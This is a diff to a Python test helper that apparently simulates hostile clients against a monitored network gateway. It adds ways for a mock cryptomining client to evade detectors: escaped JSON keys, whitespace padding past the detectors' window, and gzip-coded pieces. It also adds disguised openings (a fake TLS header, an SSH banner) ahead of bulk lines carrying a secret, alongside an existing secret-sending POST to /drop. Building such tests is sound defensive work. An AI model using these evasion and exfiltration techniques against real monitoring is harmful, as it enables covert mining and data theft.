@@ -15,6 +15,7 @@ until the pool answered its share (``share answered``) or the connection ends.
 
 from __future__ import annotations
 
+import gzip
 import json
 import socket
 import sys
@@ -24,6 +25,8 @@ from urllib.parse import quote_from_bytes, unquote_to_bytes
 
 PIECE = 7
 """Bytes of Stratum per request body and per response body."""
+PADDING = 20 * 1024
+"""Bytes of JSON whitespace the ``padded`` miner sends in one body inside its first message."""
 SUBMIT_ID = 4
 NOTIFY = {"id": None, "method": "mining.notify",
           "params": ["job1", "00" * 32, "01", "02", [], "20000000", "1d00ffff", "5f5e1000", True]}  # fmt: skip
@@ -48,25 +51,8 @@ def _read_request(conn: socket.socket, buf: bytearray) -> tuple[str, bytes] | No
     target = head[0].split(" ")[1] if head[0].count(" ") >= 2 else ""
     fields = {line.split(":", 1)[0].strip().lower(): line.split(":", 1)[1].strip() for line in head[1:] if ":" in line}
     if "chunked" in fields.get("transfer-encoding", "").lower():
-        chunks = bytearray()
-        while True:
-            while b"\r\n" not in buf:
-                data = conn.recv(65536)
-                if not data:
-                    return None
-                buf += data
-            line_end = buf.index(b"\r\n")
-            size = int(bytes(buf[:line_end]).split(b";")[0], 16)
-            del buf[: line_end + 2]
-            while len(buf) < size + 2:
-                data = conn.recv(65536)
-                if not data:
-                    return None
-                buf += data
-            chunks += buf[:size]
-            del buf[: size + 2]
-            if size == 0:
-                return target, bytes(chunks)
+        chunked = _read_chunked(conn, buf)
+        return None if chunked is None else (target, chunked)
     length = int(fields.get("content-length", "0"))
     while len(buf) < length:
         data = conn.recv(65536)
@@ -75,7 +61,32 @@ def _read_request(conn: socket.socket, buf: bytearray) -> tuple[str, bytes] | No
         buf += data
     body = bytes(buf[:length])
     del buf[:length]
+    if fields.get("content-encoding", "").lower() == "gzip":
+        body = gzip.decompress(body)
     return target, body
+
+
+def _read_chunked(conn: socket.socket, buf: bytearray) -> bytes | None:
+    """A chunked body from ``conn`` (``buf``: its bytes read so far); None at the end."""
+    chunks = bytearray()
+    while True:
+        while b"\r\n" not in buf:
+            data = conn.recv(65536)
+            if not data:
+                return None
+            buf += data
+        line_end = buf.index(b"\r\n")
+        size = int(bytes(buf[:line_end]).split(b";")[0], 16)
+        del buf[: line_end + 2]
+        while len(buf) < size + 2:
+            data = conn.recv(65536)
+            if not data:
+                return None
+            buf += data
+        chunks += buf[:size]
+        del buf[: size + 2]
+        if size == 0:
+            return bytes(chunks)
 
 
 def _answer(line: bytes, out: bytearray, whole: bool = False) -> None:
@@ -205,7 +216,8 @@ def _response(conn: socket.socket, buf: bytearray) -> tuple[bytes, bytes] | None
 
 def miner_main() -> None:
     """``python -c '...miner_main()' ADDRESS|- PORT HOST HOW`` (``-``: resolve HOST; HOW: fast, chunked, a
-    `TARGET_FORMS` key, with ``-chunked`` or not, or reason: a GET whose answer's reason phrase is the job)."""
+    `TARGET_FORMS` key, with ``-chunked`` or not, or reason: a GET whose answer's reason phrase is the job; or a
+    cut stream's variant: escaped keys, padded past the window, gzip-coded pieces)."""
     address, port, host, how = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
     if address == "-":  # by name, through the gateway's resolver (which binds the name to its address)
         address = str(socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
@@ -219,21 +231,16 @@ def miner_main() -> None:
         _in_targets(conn, buf, host, chunked=how.endswith("chunked"), shape=TARGET_FORMS[form])
         return
     if how == "reason":
-        conn.sendall(f"GET /job HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
-        answer = _response(conn, buf)
-        print("answer", answer, flush=True)
-        if answer is not None and b'"mining.notify"' in answer[0]:
-            print("job received in the reason phrase", flush=True)
+        _job_in_reason(conn, buf, host)
         return
     pending = CLIENT_STREAM
-    for _ in range(400):
+    if how == "escaped":  # the keys escaped as JSON allows (\u006d is "m"): what a lenient pool reads the same
+        pending = CLIENT_STREAM.replace(b'"method"', b'"\\u006dethod"')
+    for turn in range(400):
         piece, pending = pending[:PIECE], pending[PIECE:]
-        head = f"POST /work HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
-        if how == "chunked":
-            body = (b"%x\r\n%s\r\n" % (len(piece), piece) if piece else b"") + b"0\r\n\r\n"
-            request = (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + body
-        else:
-            request = (head + f"Content-Length: {len(piece)}\r\n\r\n").encode() + piece
+        if how == "padded" and turn == 1:  # JSON whitespace past the detectors' window, inside the first message
+            piece, pending = b" " * PADDING, piece + pending
+        request = _post(host, piece, how)
         try:
             conn.sendall(request)
             answer = _response(conn, buf)
@@ -250,6 +257,28 @@ def miner_main() -> None:
                 print("share answered", flush=True)
                 return
     print("gave up", bytes(received)[:400], flush=True)
+
+
+def _post(host: str, piece: bytes, how: str) -> bytes:
+    """A POST carrying ``piece``: Content-Length, chunked (``chunked``) or gzip-coded (``gzip``: each piece its own
+    member, which mitmproxy decodes, and so does the pool)."""
+    head = f"POST /work HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
+    if how == "gzip":
+        piece = gzip.compress(piece)
+        head += "Content-Encoding: gzip\r\n"
+    if how == "chunked":
+        body = (b"%x\r\n%s\r\n" % (len(piece), piece) if piece else b"") + b"0\r\n\r\n"
+        return (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + body
+    return (head + f"Content-Length: {len(piece)}\r\n\r\n").encode() + piece
+
+
+def _job_in_reason(conn: socket.socket, buf: bytearray, host: str) -> None:
+    """A plain GET whose answer carries the pool's job in its reason phrase."""
+    conn.sendall(f"GET /job HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+    answer = _response(conn, buf)
+    print("answer", answer, flush=True)
+    if answer is not None and b'"mining.notify"' in answer[0]:
+        print("job received in the reason phrase", flush=True)
 
 
 def _in_targets(conn: socket.socket, buf: bytearray, host: str, chunked: bool, shape: Callable[[bytes], bytes]) -> None:
@@ -350,5 +379,35 @@ def post_main() -> None:
             head = b"POST /drop HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (address.encode(), len(secret))
             conn.sendall(head + secret)
             print("answer", conn.recv(200).split(b"\r\n", 1)[0], flush=True)
+    except OSError as exc:
+        print("connection failed", exc, flush=True)
+
+
+OPENINGS = {
+    "tls-record-header": b"\x16\x03\x01\x00\x05",
+    "ssh-banner": b"SSH-2.0-OpenSSH_9.6\r\n",
+    "json-lines": b'{"jsonrpc":"2.0","id":1,"method":"log.write","params":["',
+    "blank-lines": b"\r\n" * 8,
+    "one-byte-first": b"5",
+}
+"""What a bulk sender puts before its lines to slip past a refusal at the opening (``opening_main``)."""
+
+
+def opening_main() -> None:
+    """``python -c '...opening_main()' ADDRESS PORT VARIANT SECRET_HEX``: an `OPENINGS` opening, then 12 KiB of
+    lines of the secret on one connection (``one-byte-first``: its first byte alone, the rest 0.3 s later)."""
+    address, port, variant, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+    line = (secret * (BULK_LINE // len(secret) + 1))[:BULK_LINE].encode() + b"\n"
+    data = OPENINGS[variant] + line * (12 * 1024 // len(line))
+    try:
+        with socket.create_connection((address, port), timeout=10) as conn:
+            conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            if variant == "one-byte-first":
+                conn.sendall(data[:1])
+                threading.Event().wait(0.3)
+                data = data[1:]
+            conn.sendall(data)
+            conn.shutdown(socket.SHUT_WR)
+            print("answer", conn.recv(200), flush=True)
     except OSError as exc:
         print("connection failed", exc, flush=True)
